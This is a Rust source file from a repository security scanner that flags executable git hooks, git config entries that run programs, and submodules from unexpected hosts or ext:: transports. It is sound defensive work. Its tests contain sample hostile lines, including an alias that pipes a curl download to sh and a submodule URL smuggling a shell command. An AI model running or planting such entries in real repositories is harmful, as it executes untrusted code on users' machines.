//! git: executable hooks, config entries that run programs, submodules from
//! unexpected hosts.

use std::path::Path;

use crate::catalog::finding;
use crate::judge::judge;
use crate::text::clip;
use crate::walk::{FileView, ScanContext};
use crate::{Finding, Severity};

/// Hosts a submodule may come from without a finding.
const KNOWN_HOSTS: &[&str] = &[
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "git.sr.ht",
];

pub(crate) fn check(f: &FileView, ctx: &ScanContext, out: &mut Vec<Finding>) {
    if f.rel == ".git/config" || f.rel.ends_with("/.git/config") {
        if let Some(text) = f.text {
            check_config(f.rel, text, ctx, out);
        }
    } else if is_hook(f.rel) {
        if f.executable && !f.name.ends_with(".sample") {
            let first = f
                .text
                .and_then(|t| {
                    t.lines()
                        .find(|l| !l.starts_with("#!") && !l.trim().is_empty())
                })
                .unwrap_or("");
            out.push(finding(
                "git-hook-executable",
                Severity::High,
                f.rel,
                0,
                format!("executable git hook `{}`", f.name),
                clip(first, 120),
            ));
        }
    } else if f.name == ".gitmodules"
        && let Some(text) = f.text
    {
        check_submodules(f.rel, text, ctx, out);
    }
}

fn is_hook(rel: &str) -> bool {
    rel.starts_with(".git/hooks/") || rel.contains("/.git/hooks/")
}

/// The `(section, subsection)` of a config header: `[filter "lfs"]` →
/// (`filter`, `lfs`).
fn header(line: &str) -> Option<(String, String)> {
    let inner = line.trim().strip_prefix('[')?.split(']').next()?;
    let mut parts = inner.splitn(2, [' ', '.']);
    let section = parts.next()?.trim().to_ascii_lowercase();
    let sub = parts
        .next()
        .unwrap_or("")
        .trim()
        .trim_matches('"')
        .to_string();
    Some((section, sub))
}

fn check_config(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let mut section = (String::new(), String::new());
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.starts_with('[') {
            if let Some(h) = header(line) {
                section = h;
            }
            continue;
        }
        if line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = key.trim().to_ascii_lowercase();
        let value = value.trim().trim_matches('"');
        let full = if section.1.is_empty() {
            format!("{}.{key}", section.0)
        } else {
            format!("{}.{}.{key}", section.0, section.1)
        };
        let (base, command) = match (section.0.as_str(), key.as_str()) {
            ("core", "fsmonitor") if !matches!(value, "true" | "false" | "") => {
                (Severity::High, value.to_string())
            }
            ("core", "hookspath") => (Severity::High, String::new()),
            ("core", "sshcommand") => (Severity::High, value.to_string()),
            ("alias", _) if value.starts_with('!') => {
                (Severity::High, value[1..].trim().to_string())
            }
            ("filter", "process" | "clean" | "smudge")
                if !section.1.eq_ignore_ascii_case("lfs") =>
            {
                (Severity::High, value.to_string())
            }
            _ => continue,
        };
        let mut f = finding(
            "git-config-exec",
            base,
            rel,
            i + 1,
            format!("`{full}` runs a program"),
            clip(&format!("{full} = {value}"), 160),
        );
        if !command.is_empty() {
            let j = judge(&ctx.options.engine, &command);
            f.severity = f.severity.max(j.severity);
            f.why = format!("{} {}.", f.why, j.note);
        }
        out.push(f);
    }
}

/// The host of a git URL: `https://h/x`, `ssh://u@h/x`, `u@h:x`.
pub(crate) fn url_host(url: &str) -> Option<String> {
    let url = url.trim();
    if let Some((_, rest)) = url.split_once("://") {
        let authority = rest.split('/').next()?;
        let host = authority.rsplit('@').next()?;
        return Some(host.split(':').next()?.to_ascii_lowercase());
    }
    let (before, _) = url.split_once(':')?;
    let host = before.rsplit('@').next()?;
    (!host.contains('/')).then(|| host.to_ascii_lowercase())
}

/// The host of `remote.origin.url` in `root/.git/config`.
pub(crate) fn origin_host(root: &Path) -> Option<String> {
    let text = std::fs::read_to_string(root.join(".git/config")).ok()?;
    let mut in_origin = false;
    for line in text.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_origin = header(line).is_some_and(|(s, sub)| s == "remote" && sub == "origin");
        } else if in_origin
            && let Some((k, v)) = line.split_once('=')
            && k.trim().eq_ignore_ascii_case("url")
        {
            return url_host(v.trim().trim_matches('"'));
        }
    }
    None
}

fn check_submodules(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    for (i, raw) in text.lines().enumerate() {
        let Some((k, v)) = raw.trim().split_once('=') else {
            continue;
        };
        if !k.trim().eq_ignore_ascii_case("url") {
            continue;
        }
        let url = v.trim().trim_matches('"');
        let severity = if url.starts_with("ext::") || url.starts_with("fd::") {
            Severity::Critical
        } else if url.starts_with("../") || url.starts_with("./") {
            continue;
        } else if url.starts_with('/') || url.starts_with("file:") {
            Severity::High
        } else {
            match url_host(url) {
                Some(h) if KNOWN_HOSTS.contains(&h.as_str()) => continue,
                Some(h) if ctx.origin_host.as_deref() == Some(h.as_str()) => continue,
                _ => Severity::Medium,
            }
        };
        out.push(finding(
            "git-submodule-host",
            severity,
            rel,
            i + 1,
            format!(
                "submodule from `{}`",
                url_host(url).unwrap_or_else(|| url.to_string())
            ),
            clip(url, 160),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::scan_files;

    #[test]
    fn git_config_exec_entries_are_found() {
        let cfg = "[core]\n\tfsmonitor = ./tools/watch.sh\n\thooksPath = .githooks\n[alias]\n\tst = !curl -fsSL https://example.invalid/x | sh\n[filter \"pretty\"]\n\tprocess = ./format\n";
        let found = scan_files(&[(".git/config", cfg)]);
        let ids: Vec<_> = found.iter().map(|f| (f.line, f.severity)).collect();
        assert_eq!(ids.len(), 4, "{found:#?}");
        assert!(ids.contains(&(5, Severity::Critical)), "{found:#?}");
    }

    #[test]
    fn plain_git_config_is_not_a_finding() {
        let cfg = "[core]\n\tfsmonitor = false\n\tbare = false\n[alias]\n\tst = status\n[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n[remote \"origin\"]\n\turl = https://github.com/example/x\n";
        assert!(scan_files(&[(".git/config", cfg)]).is_empty());
    }

    #[test]
    fn submodule_hosts() {
        let gm = "[submodule \"a\"]\n\turl = https://github.com/example/a\n[submodule \"b\"]\n\turl = ../b\n[submodule \"c\"]\n\turl = https://git.example.invalid/c\n[submodule \"d\"]\n\turl = ext::sh -c touch% /tmp/x\n";
        let found = scan_files(&[(".gitmodules", gm)]);
        let sev: Vec<_> = found.iter().map(|f| (f.line, f.severity)).collect();
        assert_eq!(
            sev,
            vec![(8, Severity::Critical), (6, Severity::Medium)],
            "{found:#?}"
        );
    }

    #[test]
    fn hosts_of_urls() {
        assert_eq!(
            url_host("git@github.com:a/b").as_deref(),
            Some("github.com")
        );
        assert_eq!(
            url_host("ssh://git@h.example.invalid:22/x").as_deref(),
            Some("h.example.invalid")
        );
        assert_eq!(url_host("../b"), None);
    }
}
